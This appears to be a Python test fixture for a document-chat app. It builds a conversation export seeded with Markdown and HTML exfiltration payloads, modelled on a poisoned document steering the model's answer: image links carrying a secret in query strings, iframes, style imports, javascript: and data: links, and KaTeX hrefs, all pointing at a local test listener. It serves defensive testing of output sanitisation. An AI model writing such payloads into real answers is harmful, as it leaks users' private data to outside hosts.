"""A docchat export whose title, question, answer, search query and citation carry each way
Markdown could make the page fetch or run something, each pointing at `base` (a listener a test
starts), as a poisoned document could make the model write them, or a planted file carry them.

`payloads(base)` names each one; `hostile_export(base)` is the export, as bytes to import;
`markdown_tokens` reads Markdown as a browser's CommonMark parser would, to check it."""

from __future__ import annotations

from datetime import datetime, timezone

from markdown_it import MarkdownIt

from docchat.domain import AnswerFacts, Citation, Conversation, Message, Role
from docchat.exchange import to_document, to_json

CONVERSATION_ID = "5e1f0a11-7a2b-4c3d-8e4f-0123456789ab"
SECRET = "Harbour-Family-Trust-account-4471"


def payloads(base: str) -> dict[str, str]:
    """Each payload by name; `base` is `http://127.0.0.1:PORT`."""
    host = "//" + base.split("://", 1)[1]
    return {
        "inline image": f"![chart]({base}/inline.png?q={SECRET})",
        "reference image": f"![logo][pixel]\n\n[pixel]: {base}/reference.png?q={SECRET}",
        "shortcut reference image": f"![badge]\n\n[badge]: {base}/shortcut.png",
        "protocol-relative image": f"![p]({host}/protocol-relative.png)",
        "img tag": f'<img src="{base}/img-tag.png?q={SECRET}">',
        "iframe": f'<iframe src="{base}/iframe"></iframe>',
        "video tag": f'<video src="{base}/video.mp4" autoplay></video>',
        "style import": f"<style>@import url({base}/style.css);</style>",
        "javascript link": f"[Open the trust deed](javascript:fetch('{base}/javascript?q={SECRET}'))",
        "data link": "[Open the summary](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "link that hides its target": f"[your bank]({base}/login)",
        "katex href": f"$\\href{{{base}/katex-href}}{{\\text{{deed}}}}$",
        "katex image": f"$\\includegraphics{{{base}/katex.png}}$",
        "icons and emoji": ":material/description: :smile:",
    }


def hostile_answer(base: str) -> str:
    return "\n\n".join(["The Determination Date is the 15th [1]."] + list(payloads(base).values()))


def hostile_question(base: str) -> str:
    found = payloads(base)
    return f"When is the Determination Date? {found['img tag']} {found['inline image']} {found['javascript link']}"


def hostile_export(base: str) -> bytes:
    at = datetime(2025, 3, 14, 9, 30, tzinfo=timezone.utc)
    conversation = Conversation(id=CONVERSATION_ID, title=f"Harbour Trust ![t]({base}/title.png)",
                                created_at=at, updated_at=at)
    citation = Citation(number=1, document=f"trust-deed ![d]({base}/document.png).pdf",
                        where=f"page 4 <img src={base}/where.png>",
                        text=f"The Determination Date is the 15th. ![c]({base}/passage.png)", page=4)
    messages = [
        Message(id="a1b2c3d4-0000-4000-8000-000000000001", conversation_id=CONVERSATION_ID, seq=1,
                role=Role.USER, content=hostile_question(base), created_at=at),
        Message(id="a1b2c3d4-0000-4000-8000-000000000002", conversation_id=CONVERSATION_ID, seq=2,
                role=Role.ASSISTANT, content=hostile_answer(base), created_at=at,
                facts=AnswerFacts(citations=[citation]),
                rewritten_query=f"Determination Date ![q]({base}/rewritten.png)",
                parent_id="a1b2c3d4-0000-4000-8000-000000000001"),
    ]
    document = to_document(conversation, messages, [], app_version="0.1.0", exported_at=at)
    return to_json(document).encode()


def markdown_tokens(markdown: str) -> list:
    """Every token of `markdown` read as CommonMark with GFM tables, links of any scheme
    included (markdown-it alone refuses to parse a `javascript:` link as one)."""
    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    md.validateLink = lambda url: True

    def walk(tokens):
        for token in tokens:
            yield token
            yield from walk(token.children or [])

    return list(walk(md.parse(markdown)))


def shown_text(markdown: str) -> str:
    """What a reader sees of `markdown`: its text and code."""
    return "".join(t.content for t in markdown_tokens(markdown) if t.type in ("text", "code_inline"))
